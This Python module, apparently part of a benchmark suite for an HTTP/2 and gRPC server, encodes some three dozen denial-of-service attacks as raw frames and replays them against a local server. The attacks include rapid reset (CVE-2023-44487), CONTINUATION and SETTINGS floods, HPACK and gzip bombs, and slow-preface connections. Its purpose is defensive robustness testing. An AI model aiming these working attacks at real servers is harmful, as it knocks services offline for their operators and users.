# ruff: noqa: E501 - a table with an attack a row
"""Known attacks on HTTP/2 and gRPC servers, as bytes: what a hostile client sends, again and again.

    python -m ride_trio_loadgen.bench.attacks NAME PORT SECONDS

plays one against a server on this machine, connects anew whenever it is thrown out, and prints what it was answered.
"""

from __future__ import annotations

import gzip
import os
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Final

from ride_trio.wire import ErrorCode, hpack
from ride_trio.wire.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    frame,
    ping_frame,
    rst_stream_frame,
    settings_frame,
    window_update_frame,
)
from ride_trio_loadgen.bench.echo import PATH

REQUEST: Final = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", PATH.encode()),
    (b":authority", b"attack"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)
BLOCK: Final = hpack.encode(REQUEST)
GZIP_BLOCK: Final = hpack.encode((*REQUEST, (b"grpc-encoding", b"gzip")))
# Streams or frames that are sent at a time.
BATCH: Final = 100
# No attacker waits longer for a socket than this, s.
SOCKET_TIMEOUT_S: Final = 0.5
# Between two connections of an attacker, s.
PAUSE_S: Final = 0.01
_PREFIX: Final = struct.Struct(">BL")

Chunks = Callable[[], Iterator[bytes]]


@dataclass(frozen=True, slots=True)
class Attack:
    """One of them.

    Args:
        what: In words, with its CVE where it has one.
        chunks: What a connection sends after preface and SETTINGS.
        calm: Whether it ends with ENHANCE_YOUR_CALM.
        settings: The attacker's.
        connections: Of these at a time.
        reads: Whether it reads what it is answered.
        preface: False if not even that is sent.
    """

    what: str
    chunks: Chunks
    calm: bool = False
    settings: dict[int, int] = field(default_factory=dict)
    connections: int = 1
    reads: bool = True
    preface: bool = True


def opened(stream: int, *, end: bool = False, block: bytes = BLOCK) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def message(size: int, flag: int = 0) -> bytes:
    """A BytesValue of so many bytes, with its gRPC prefix."""
    head, rest = bytearray(b"\x0a"), size
    while rest > 0x7F:
        head.append(rest & 0x7F | 0x80)
        rest >>= 7
    head.append(rest)
    body = bytes(head) + bytes(size)
    return _PREFIX.pack(flag, len(body)) + body


def each_stream(make: Callable[[int], bytes]) -> Chunks:
    """Stream after stream, for ever."""

    def chunks() -> Iterator[bytes]:
        first = 1
        while True:
            yield b"".join(make(stream) for stream in range(first, first + 2 * BATCH, 2))
            first += 2 * BATCH

    return chunks


def flood(noise: bytes, opening: bytes = b"", times: int = 5 * BATCH) -> Chunks:
    """The same bytes, for ever."""

    def chunks() -> Iterator[bytes]:
        yield opening
        while True:
            yield noise * times

    return chunks


def once(data: bytes) -> Chunks:
    """Something, and then silence."""

    def chunks() -> Iterator[bytes]:
        yield data
        while True:
            time.sleep(0.05)
            yield b""

    return chunks


def slowly(data: bytes) -> Chunks:
    """A byte now and then."""

    def chunks() -> Iterator[bytes]:
        for byte in data:
            yield bytes((byte,))
            time.sleep(0.05)

    return chunks


def _windows_that_move() -> Iterator[bytes]:
    yield b"".join(opened(stream) for stream in range(1, 2_001, 2))
    while True:
        yield b"".join(settings_frame({4: 1_000 + number}) for number in range(20))


def _in_frames(stream: int, data: bytes, size: int = 16_384) -> bytes:
    return b"".join(frame(DATA, 0, stream, data[start : start + size]) for start in range(0, len(data), size))


def _bombs() -> Iterator[bytes]:
    bomb = gzip.compress(bytes(100_000_000), 9)
    for stream in range(1, 2_001, 2):
        packed = _PREFIX.pack(1, len(bomb)) + bomb
        yield opened(stream, block=GZIP_BLOCK) + _in_frames(stream, packed)
        time.sleep(0.02)


_BIG_FIELD: Final = b"\x40\x01a\x7f" + b"\xbd\x1d" + b"x" * 3_900
_HUFFMAN: Final = BLOCK + b"\x00\x01a\xff\x9d\x49" + b"\x18\xc6\x31\x8c\x63" * 1_900

ATTACKS: Final[dict[str, Attack]] = {
    "rapid-reset": Attack("opens and resets (CVE-2023-44487)", each_stream(lambda s: opened(s) + rst_stream_frame(s, 8)), True),
    "rapid-reset-completed": Attack("resets completed requests", each_stream(lambda s: opened(s, end=True) + rst_stream_frame(s, 8)), True),
    "made-you-reset-window-0": Attack("has its streams reset by WINDOW_UPDATE 0 (CVE-2025-8671)", each_stream(lambda s: opened(s) + window_update_frame(s, 0)), True),
    "made-you-reset-overflow": Attack("by a window above 2^31-1", each_stream(lambda s: opened(s) + window_update_frame(s, 2**31 - 1)), True),
    "made-you-reset-priority": Attack("by PRIORITY of a wrong length", each_stream(lambda s: opened(s) + frame(PRIORITY, 0, s, bytes(4))), True),
    "made-you-reset-half-closed": Attack("by DATA after END_STREAM", each_stream(lambda s: opened(s, end=True) + frame(DATA, 0, s, b"x")), True),
    "continuation-flood": Attack("a header block without end (CVE-2024-27316)", flood(frame(CONTINUATION, 0, 1, b"\0\1a\1b"), frame(HEADERS, 0, 1, BLOCK)), True),
    "continuation-flood-empty": Attack("of empty CONTINUATIONs", flood(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, BLOCK)), True),
    "settings-flood": Attack("SETTINGS to be acknowledged (CVE-2019-9515)", flood(settings_frame({3: 100})), True),
    "settings-of-thousands": Attack("2,730 values a frame", flood(frame(SETTINGS, 0, 0, b"\0\5\0\0\x40\0" * 2_730), times=4), True),
    "settings-move-windows": Attack("moves the windows of 1,000 streams", _windows_that_move, True),
    "ping-flood": Attack("pings (CVE-2019-9512)", flood(ping_frame(bytes(8))), True),
    "empty-data-flood": Attack("empty DATA (CVE-2019-9518)", flood(frame(DATA, 0, 1), opened(1)), True),
    "window-update-flood": Attack("windows a byte larger", flood(window_update_frame(0, 1)), True),
    "data-dribble": Attack("takes an answer a byte at a time (CVE-2019-9511)", flood(window_update_frame(1, 1), opened(1) + _in_frames(1, message(60_000))), True, settings={4: 0}),
    "priority-flood": Attack("PRIORITY (CVE-2019-9513)", flood(frame(PRIORITY, 0, 99, b"\0\0\0\0\1")), True),
    "unknown-frames": Attack("frames of an unknown type", flood(frame(0xBA, 0, 0, b"hello")), True),
    "hpack-bomb": Attack("a thousand references to a large field", flood(b"".join(opened(s, block=BLOCK + b"\xbe" * 4_000) for s in range(3, 99, 2)), opened(1, block=BLOCK + _BIG_FIELD), 1)),
    "hpack-integers": Attack("endless integers", flood(opened(1, block=b"\xff" * 1_000))),
    "huffman-blocks": Attack("large Huffman-coded fields", each_stream(lambda s: opened(s, block=_HUFFMAN))),
    "large-headers": Attack("16 KiB of fields a call", each_stream(lambda s: opened(s, block=BLOCK + b"\0\1a\x7f\xe1\x7c" + b"x" * 16_096))),
    "slow-preface": Attack("a preface a byte at a time", slowly(PREFACE), connections=50, preface=False),
    "half-headers": Attack("headers that are never finished", once(frame(HEADERS, 0, 1, BLOCK)), connections=50),
    "half-frames": Attack("frames that are never finished", once(opened(1) + frame(DATA, 0, 1, bytes(9_000))[:5_000]), connections=50),
    "zero-windows": Attack("wants large answers and takes none", each_stream(lambda s: opened(s) + _in_frames(s, message(60_000))), settings={4: 0}, connections=4),
    "never-reads": Attack("asks and does not read", flood(frame(DATA, 0, 1, bytes(5)), opened(1)), reads=False),
    "many-streams": Attack("1,000 idle streams", once(b"".join(opened(s) for s in range(1, 2_001, 2))), connections=2),
    "tiny-messages": Attack("3,276 empty messages a frame", flood(frame(DATA, 0, 1, bytes(16_380)), opened(1), 4)),
    "a-byte-a-frame": Attack("a message a byte at a time", flood(_in_frames(1, message(1_000), 1), opened(1), 1)),
    "connection-overflow": Attack("a connection's window above 2^31-1", flood(window_update_frame(0, 2**31 - 1))),
    "stream-numbers": Attack("even, falling and huge numbers", flood(opened(2**31 - 1) + opened(2) + opened(1), times=1)),
    "huge-prefix": Attack("announces 4 GiB", each_stream(lambda s: opened(s) + frame(DATA, 0, s, b"\0\xff\xff\xff\xff"))),
    "half-messages": Attack("50 halves of 10 MB", once(b"".join(opened(s) + frame(DATA, 0, s, _PREFIX.pack(0, 10_000_000) + bytes(999)) for s in range(1, 101, 2))), connections=10),
    "zip-bombs": Attack("100 MB in 100 kB", _bombs),
    "no-http2": Attack("HTTP/1.1 requests", flood(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), preface=False),
    "idle-connections": Attack("500 connections that do nothing", once(b""), connections=500),
}  # fmt: skip


class Attacker:
    """Plays an attack on all its connections in turn, and counts the answers by name."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.attack = attack
        self.answers: Counter[str] = Counter()
        self._port = port

    def play(self, seconds: float) -> None:
        """For so long."""
        until = time.monotonic() + seconds
        lives = [self._life() for _ in range(self.attack.connections)]
        while time.monotonic() < until:
            for life in lives:
                next(life)
                if time.monotonic() > until:
                    break

    def _life(self) -> Iterator[None]:
        while True:
            try:
                with socket.create_connection(("127.0.0.1", self._port), SOCKET_TIMEOUT_S) as sock:
                    yield from self._attack_on(sock)
            except TimeoutError:
                self.answers["is not read from"] += 1
            except OSError:
                self.answers["closed"] += 1
            time.sleep(PAUSE_S)
            yield

    def _attack_on(self, sock: socket.socket) -> Iterator[None]:
        if self.attack.preface:
            sock.sendall(PREFACE + settings_frame(self.attack.settings))
        buffer = b""
        for chunk in self.attack.chunks():
            sock.sendall(chunk)
            if self.attack.reads:
                buffer = self._read(sock, buffer)
            yield

    def _read(self, sock: socket.socket, buffer: bytes) -> bytes:
        sock.setblocking(False)
        try:
            data = sock.recv(1 << 18)
            if not data:
                raise OSError("closed")
            return self._note(buffer + data)
        except BlockingIOError:
            return buffer
        finally:
            sock.settimeout(SOCKET_TIMEOUT_S)

    def _note(self, data: bytes) -> bytes:
        while len(data) >= 9 and len(data) >= 9 + (size := int.from_bytes(data[:3], "big")):
            kind, payload, data = data[3], data[9 : 9 + size], data[9 + size :]
            if kind == GOAWAY:
                self.answers[f"GOAWAY {ErrorCode(int.from_bytes(payload[4:8], 'big')).name}"] += 1
            elif kind == RST_STREAM:
                self.answers[f"RST {ErrorCode(int.from_bytes(payload, 'big')).name}"] += 1
        return data


def main(name: str, port: int, seconds: float) -> None:
    """Play, at the lowest priority: what is measured is the server, not who gets the other CPU."""
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attacker = Attacker(ATTACKS[name], port)
    attacker.play(seconds)
    print(", ".join(f"{what} x{count}" for what, count in attacker.answers.most_common(4)))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
